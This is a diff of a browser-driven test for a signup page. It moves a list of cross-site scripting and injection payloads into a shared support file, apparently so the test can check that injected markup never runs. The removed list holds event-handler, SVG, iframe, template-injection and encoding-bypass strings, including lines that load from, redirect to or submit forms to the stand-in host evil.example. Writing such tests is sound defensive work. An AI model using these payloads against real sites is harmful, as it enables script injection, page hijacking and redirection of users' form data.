@@ -7,6 +7,7 @@ import { listen } from '../../src/demo/listen.ts'
 import { type Chromium, openChromium } from '../support/chromium.ts'
 import { ada, PASSWORD } from '../support/people.ts'
 import { type Mode, type Product, startProduct } from '../support/product.ts'
+import { TRICKS } from '../support/tricks.ts'
 import { storedPerson } from '../support/visits.ts'
 
 const SIGNUP = '/accountrecoveryendpoint/signup.do'
@@ -14,29 +15,6 @@ const SIGNUP = '/accountrecoveryendpoint/signup.do'
 // By value: the words of the buttons are tricks, too.
 const CREATE = 'button.primary[name="do"][value="create"]'
 const DECLINE = 'button[name="do"][value="decline"]'
-
-/** Ways to run `canary()`, or to load something, that have worked in one context or another. */
-const TRICKS = [
-  '"><img src=//evil.example/x onerror=canary()>',
-  "' autofocus onfocus=canary() x='",
-  '</title></textarea></script><script>canary()</script>',
-  '<svg/onload=canary()>',
-  '<details open ontoggle=canary()>',
-  '<iframe srcdoc="<script>parent.canary()</script>">',
-  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
-  '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
-  '<a href=javascript:canary()>canary</a>',
-  '<base href=//evil.example/><link rel=stylesheet href=//evil.example/x>',
-  '<meta http-equiv=refresh content="0;url=//evil.example/">',
-  '<form action=//evil.example/><button name=do value=decline>',
-  '--><!--><script>canary()//',
-  ']]><script>canary()</script>',
-  '&lt;img src=x onerror=canary()&gt;&#60;script&#62;canary()',
-  '+ADw-script+AD4-canary()+ADw-/script+AD4-',
-  `<%= canary() %>\${canary()}{{constructor.constructor("canary()")()}}`,
-  '\u2028canary()\u2029',
-  '{name}{app}$&',
-]
 
 /** In the page: the elements that no view of ours prints. */
 const GROWN = `[...document.querySelectorAll('*')].filter((element) => {
